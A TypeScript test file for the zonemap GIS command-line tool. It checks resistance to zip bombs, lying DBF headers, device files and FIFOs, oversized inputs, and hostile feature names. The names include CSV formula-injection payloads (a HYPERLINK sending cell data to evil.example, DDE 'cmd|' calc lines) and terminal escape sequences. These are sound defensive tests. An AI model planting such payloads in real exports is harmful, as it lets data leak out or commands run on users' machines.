// The command line against hostile and unlucky input (issue 8): zip bombs, a DBF claiming 200 million
// records, devices and FIFOs named as files, files over the limit, formulas and terminal escapes in
// names. Memory is measured in the spawned CLI itself (process.resourceUsage().maxRSS at exit).
import { spawn, spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadProjectFromPath } from '../../src/io/node-project.ts';
import { concat, zipBomb } from '../helpers/zip-bomb.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const FIXTURE = path.join(ROOT, 'test/fixtures/report/basic');
const RSS_HOOK = path.join(ROOT, 'test/helpers/report-rss.mjs');
const TMP = mkdtempSync(path.join(tmpdir(), 'zonemap-hostile-'));
afterAll(() => rmSync(TMP, { recursive: true, force: true }));

interface Run {
  code: number | null;
  out: string;
  err: string;
  /** peak resident memory of the CLI process, in MB */
  rssMB: number;
  ms: number;
}

/** Runs the CLI as a user does, with a time limit, and reads its peak memory. */
function zonemap(args: string[], timeoutMs = 60_000): Promise<Run> {
  const rssFile = path.join(TMP, `rss-${Math.random().toString(36).slice(2)}`);
  const t0 = performance.now();
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', RSS_HOOK, 'bin/zonemap.js', ...args], {
      cwd: ROOT,
      env: { ...process.env, ZONEMAP_RSS_FILE: rssFile },
    });
    let out = '';
    let err = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('close', (code) => {
      clearTimeout(timer);
      let rssKB = NaN;
      try {
        rssKB = Number(readFileSync(rssFile, 'utf8'));
      } catch {
        // killed before it could report
      }
      resolve({ code, out, err, rssMB: rssKB / 1024, ms: performance.now() - t0 });
    });
  });
}

const write = (name: string, data: Uint8Array | string): string => {
  const p = path.join(TMP, name);
  writeFileSync(p, data);
  return p;
};

/** A .shp holding one point record (x, y). */
function pointShp(x: number, y: number): Uint8Array {
  const b = new Uint8Array(100 + 8 + 20);
  const v = new DataView(b.buffer);
  v.setInt32(0, 9994, false);
  v.setInt32(24, b.length / 2, false);
  v.setInt32(28, 1000, true);
  v.setInt32(32, 1, true);
  v.setInt32(100, 1, false);
  v.setInt32(104, 10, false);
  v.setInt32(108, 1, true);
  v.setFloat64(112, x, true);
  v.setFloat64(120, y, true);
  return b;
}

/** A dBase III header with no fields (records of 1 byte, the deletion flag) declaring `count` records. */
function dbfHeader(count: number): Uint8Array {
  const h = new Uint8Array(33);
  const v = new DataView(h.buffer);
  h[0] = 0x03;
  v.setUint32(4, count, true);
  v.setUint16(8, 33, true);
  v.setUint16(10, 1, true);
  h[32] = 0x0d;
  return h;
}

const MB = 1024 * 1024;

describe('zip bombs and memory', () => {
  it('refuses a 4 MB zip of 4 × 960 MB entries at once, naming the entry, within 1 GB', async () => {
    const bomb = zipBomb(
      ['zones.shp', 'zones.shx', 'zones.dbf', 'zones.prj'].map((name) => ({ name, fillMB: 960 })),
    );
    expect(bomb.length).toBeLessThan(5 * MB);
    const file = write('bomb.zip', bomb);
    const r = await zonemap(['validate', file, '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.out);
    expect(j.valid).toBe(false);
    expect(j.errors[0].code).toBe('zip-entry-too-large');
    expect(j.errors[0].message).toContain('zones.');
    expect(j.errors[0].message).toContain('960 MB');
    expect(j.errors[0].message_en).toMatch(/zip entry .* is too large/);
    expect(r.rssMB).toBeLessThanOrEqual(1024);
    const area = await zonemap(['area', file]);
    expect(area.code).toBe(1);
    expect(area.err).toContain('超过单个文件上限 500 MB');
    expect(area.rssMB).toBeLessThanOrEqual(1024);
  });

  it('stops inflating an entry whose header lies about its size, within 1 GB', async () => {
    const file = write('liar.zip', zipBomb([{ name: 'zones.shp', fillMB: 960, claimedSize: 1000 }]));
    const r = await zonemap(['validate', file, '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.out);
    expect(j.errors[0].code).toBe('bad-zip');
    expect(j.errors[0].message).toContain('zones.shp');
    expect(r.rssMB).toBeLessThanOrEqual(1024);
  });

  it('refuses an archive whose entries together unpack past the limit', async () => {
    const file = write(
      'wide.zip',
      zipBomb(['a.shp', 'a.dbf', 'a.prj'].map((name) => ({ name, fillMB: 200 }))),
    );
    const r = await zonemap(['validate', file, '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.out);
    expect(j.errors[0].code).toBe('zip-too-large');
    expect(j.errors[0].message).toContain('600 MB');
    expect(r.rssMB).toBeLessThanOrEqual(1024);
  });

  it('reads a 200 KB zip whose DBF really holds 200 million records without building them', async () => {
    const records = 191 * MB; // 200 278 016 one-byte records
    const zip = zipBomb([
      { name: 'pts.shp', head: pointShp(114.5, 32.2), fillMB: 0 },
      { name: 'pts.dbf', head: dbfHeader(records), fill: 0x20, fillMB: 191 },
    ]);
    expect(zip.length).toBeLessThan(250 * 1024);
    const file = write('dbf-bomb.zip', zip);
    const r = await zonemap(['validate', file, '--json']);
    const j = JSON.parse(r.out);
    expect(j.errors).toEqual([]);
    const mismatch = j.warnings.find((w: { code: string }) => w.code === 'shapefile-record-mismatch');
    expect(mismatch.message).toContain(String(records));
    expect(r.code).toBe(0);
    expect(r.rssMB).toBeLessThanOrEqual(1024);
  });

  it('refuses a DBF whose header claims 200 million records it does not hold', async () => {
    const zip = zipBomb([
      { name: 'pts.shp', head: pointShp(114.5, 32.2), fillMB: 0 },
      { name: 'pts.dbf', head: concat([dbfHeader(200_000_000), new Uint8Array([0x20])]), fillMB: 0 },
    ]);
    const r = await zonemap(['validate', write('dbf-claim.zip', zip), '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.out);
    expect(j.errors[0].code).toBe('shapefile-corrupt');
    expect(j.errors[0].message).toContain('200000000 records declared, 1 present');
    expect(r.rssMB).toBeLessThanOrEqual(1024);
  });
});

describe('files that are not files, or too large', () => {
  const manifest = (file: string): string => {
    const dir = mkdtempSync(path.join(TMP, 'proj-'));
    writeFileSync(
      path.join(dir, 'zonemap.json'),
      JSON.stringify({ name: '设备', layers: [{ id: 'zones', role: 'zone', file }] }),
    );
    return dir;
  };

  it('refuses a manifest layer naming /dev/zero in under a second', async () => {
    const dir = manifest('/dev/zero');
    const t0 = performance.now();
    const { problems } = await loadProjectFromPath(dir);
    expect(performance.now() - t0).toBeLessThan(1000);
    expect(problems[0]).toMatchObject({ code: 'not-a-regular-file', file: '/dev/zero', layer: 'zones' });
    // and as a user runs it: the command ends (it never did) with the reason
    const r = await zonemap(['report', dir], 30_000);
    expect(r.code).toBe(1);
    expect(r.err).toContain('/dev/zero');
    expect(r.err).toContain('不是普通文件');
  });

  it('refuses a FIFO given as the file, without waiting for a writer', async () => {
    const fifo = path.join(TMP, 'pipe.geojson');
    const made = spawnSync('mkfifo', [fifo]);
    if (made.status !== 0) return; // no mkfifo on this system
    const r = await zonemap(['validate', fifo], 30_000);
    expect(r.code).toBe(2);
    expect(r.err).toContain('命名管道');
    const t0 = performance.now();
    const { problems } = await loadProjectFromPath(manifest(fifo));
    expect(performance.now() - t0).toBeLessThan(1000);
    expect(problems[0]!.code).toBe('not-a-regular-file');
  });

  it('says a 2.1 GB file is too large (not "not found"), at the cost of a stat', async () => {
    const big = path.join(TMP, 'county.geojson');
    writeFileSync(big, '');
    truncateSync(big, Math.round(2.1 * 1024 * MB)); // sparse: no disk used
    const r = await zonemap(['validate', big]);
    expect(r.code).toBe(1);
    expect(r.err).toContain('文件太大（2.1 GB，超过上限 500 MB）');
    expect(r.err).toContain('too large (2.1 GB, limit 500 MB)');
    expect(r.err).not.toContain('找不到');
    expect(r.rssMB).toBeLessThan(400);
  });

  it('refuses a 600 MB layer of a project without reading it', async () => {
    const dir = manifest('big.geojson');
    writeFileSync(path.join(dir, 'big.geojson'), '');
    truncateSync(path.join(dir, 'big.geojson'), 600 * MB);
    const r = await zonemap(['report', dir, '--json']);
    expect(r.code).toBe(1);
    expect(r.err).toContain('600 MB');
    expect(r.err).toContain('file-too-large');
    expect(r.rssMB).toBeLessThan(400);
  });
});

/** RFC 4180 cells of a CSV text, parsed here independently of zonemap's reader. */
function csvCells(text: string): { text: string; quoted: boolean }[] {
  const cells: { text: string; quoted: boolean }[] = [];
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < text.length) {
    if (text[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        v += text.slice(i, q);
        if (text[q + 1] === '"') {
          v += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      cells.push({ text: v, quoted: true });
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r' && text[j] !== '\n') j++;
      cells.push({ text: text.slice(i, j), quoted: false });
      i = j;
    }
    if (text[i] === ',') i++;
    else if (text[i] === '\r' && text[i + 1] === '\n') i += 2;
    else if (text[i] === '\n') i++;
  }
  return cells;
}

/** What a spreadsheet would evaluate: a text cell starting with = + - @ tab or CR (numbers are numbers). */
const isFormula = (c: { text: string; quoted: boolean }): boolean =>
  /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(c.text) && !(!c.quoted && Number.isFinite(Number(c.text)));

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
];

function hostileProject(rename: (i: number) => string): string {
  const dir = mkdtempSync(path.join(TMP, 'names-'));
  cpSync(FIXTURE, dir, { recursive: true });
  for (const layer of ['zones', 'villages', 'enterprises', 'parks', 'towns']) {
    const p = path.join(dir, `${layer}.geojson`);
    const fc = JSON.parse(readFileSync(p, 'utf8'));
    let k = 0;
    for (const f of fc.features)
      if (f.properties && '名称' in f.properties) f.properties['名称'] = rename(k++);
    if (layer === 'towns') for (const f of fc.features) f.properties.name &&= rename(k++);
    writeFileSync(p, JSON.stringify(fc));
  }
  return dir;
}

describe('safe outputs', () => {
  it('writes no formula cell in the statistics CSV of a project with formula names', async () => {
    const dir = hostileProject((i) => HOSTILE[i % HOSTILE.length]!);
    const out = path.join(TMP, 'csv-out');
    const r = await zonemap(['report', dir, '--csv', out, '--json']);
    expect(r.code).toBe(0);
    const files = readdirSync(out).filter((f) => f.endsWith('.csv'));
    expect(files.length).toBeGreaterThan(3);
    let hostileSeen = 0;
    for (const f of files) {
      const cells = csvCells(readFileSync(path.join(out, f), 'utf8'));
      expect(cells.filter(isFormula), f).toEqual([]);
      hostileSeen += cells.filter((c) => HOSTILE.some((h) => c.text === `'${h}`)).length;
    }
    // the names are there, each behind the one quote OWASP recommends
    expect(hostileSeen).toBeGreaterThan(5);
  });

  const ESCAPES = [
    '\u001b]0;pwned\u0007罗山', // sets the window title
    '\u001b[2J\u001b[H建成区', // clears the screen
    '\u001b[8m隐藏\u001b[0m', // hidden text
    '\u009b31m红色', // C1 CSI
    'A\u202eevil', // right-to-left override
  ];
  // eslint-disable-next-line no-control-regex
  const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  it('prints report tables of names with escape codes without any ESC byte', async () => {
    const dir = hostileProject((i) => ESCAPES[i % ESCAPES.length]!);
    const r = await zonemap(['report', dir]);
    expect(r.code).toBe(0);
    expect(r.out).toContain('罗山');
    expect(r.out).toContain('隐藏');
    expect(r.out + r.err).not.toMatch(CONTROL);
    // JSON keeps the data exact (JSON escapes the controls itself)
    const j = await zonemap(['report', dir, '--json']);
    expect(j.out).not.toContain('\u001b');
    expect(JSON.parse(j.out).zones[0].name).toBe(ESCAPES[0]);
  });

  it('prints area tables and validate messages of such names without control characters', async () => {
    const features = ESCAPES.map((name, i) => ({
      type: 'Feature',
      properties: { 名称: name },
      geometry: {
        type: 'Polygon',
        // the last one crosses itself, so validate names it in a message
        coordinates:
          i === ESCAPES.length - 1
            ? [
                [
                  [114, 32],
                  [114.01, 32.01],
                  [114.01, 32],
                  [114, 32.01],
                  [114, 32],
                ],
              ]
            : [
                [
                  [114 + i / 100, 32],
                  [114.005 + i / 100, 32],
                  [114.005 + i / 100, 32.005],
                  [114 + i / 100, 32],
                ],
              ],
      },
    }));
    const file = write('escapes.geojson', JSON.stringify({ type: 'FeatureCollection', features }));
    const area = await zonemap(['area', file]);
    expect(area.out).toContain('建成区');
    expect(area.out + area.err).not.toMatch(CONTROL);
    const v = await zonemap(['validate', file]);
    expect(v.code).toBe(1);
    expect(v.err).toContain('self-intersection');
    expect(v.err).toContain('Aevil');
    expect(v.out + v.err).not.toMatch(CONTROL);
  });

  it('refuses a property nested 10 000 deep with a message naming file, feature and property', async () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    const text = `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"名称":"a"},"geometry":{"type":"Point","coordinates":[114,32]}},{"type":"Feature","properties":{"名称":"b","嵌套":${deep}},"geometry":{"type":"Point","coordinates":[114,32]}}]}`;
    const file = write('deep.geojson', text);
    const r = await zonemap(['validate', file]);
    expect(r.code).toBe(1);
    expect(r.err).toContain('deep.geojson');
    expect(r.err).toContain('要素 #1');
    expect(r.err).toContain('"嵌套" 嵌套超过 64 层');
    expect(r.err).toContain('[property-too-deep]');
  });
});
